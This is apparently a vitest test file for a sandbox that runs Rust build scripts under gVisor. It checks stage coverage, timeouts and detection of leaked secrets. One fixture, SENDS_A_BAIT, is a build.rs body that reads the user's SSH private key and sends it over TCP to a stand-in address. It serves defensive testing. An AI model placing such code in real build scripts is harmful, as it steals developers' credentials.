import { expect, test } from 'vitest';
import { containerRuntime } from '../../src/compose.ts';
import { GVISOR } from '../../src/model/runtimes.ts';
import { watchFiles } from '../support/watch-files.ts';

const engine = await containerRuntime(process.env).probe();
const missing = engine.ok && engine.value.runtimes.includes(GVISOR) ? null : 'the engine has no runsc';
const MANIFEST = '[package]\nname = "walled"\nversion = "1.0.0"\nedition = "2021"\nbuild = "build.rs"\n';
/** What a build script of this body shows under gVisor. */
const watch = (body: string, milliseconds = 60_000) =>
  watchFiles(
    { 'Cargo.toml': MANIFEST, 'build.rs': `fn main() {\n${body}\n}`, 'src/lib.rs': '' },
    { runtime: GVISOR, profile: 'quick', deadline: Date.now() + milliseconds },
  );

const SENDS_A_BAIT = `use std::io::Write;
let key = std::fs::read("/home/dev/.ssh/id_ed25519").unwrap();
let mut out = std::net::TcpStream::connect("198.51.100.7:8443").unwrap();
out.write_all(&key).unwrap();`;

test.skipIf(missing !== null)(
  `under gVisor the walk is the same, and what is not seen is said${missing === null ? '' : ` (SKIPPED: ${missing})`}`,
  async () => {
    const { evidence, coverage } = await watch('');
    expect(evidence.filter(({ kind }) => kind !== 'sensor-gap')).toEqual([]);
    expect(coverage.filter(({ asked }) => asked).map(({ stage, state }) => [stage, state])).toEqual([
      ['resolve', 'complete'],
      ['build', 'partial'],
      ['link-and-run', 'partial'],
      ['sensors', 'partial'],
    ]);
  },
);

test.skipIf(missing !== null)('a bait that leaves gVisor by the network is seen, with where it went', async () => {
  const { evidence } = await watch(SENDS_A_BAIT);
  const contacts = evidence.flatMap((piece) => (piece.kind === 'network-connect' ? [piece.data] : []));
  expect(contacts).toMatchObject([{ address: '198.51.100.7', port: 8443 }]);
  expect(evidence.map(({ kind }) => kind)).toContain('bait-leaked');
});

test.skipIf(missing !== null)('what hangs under gVisor is ended in its time', async () => {
  const { coverage } = await watch('loop { std::thread::sleep(std::time::Duration::from_secs(1)) }', 12_000);
  expect(['partial', 'timed-out']).toContain(coverage.find(({ stage }) => stage === 'build')?.state);
});
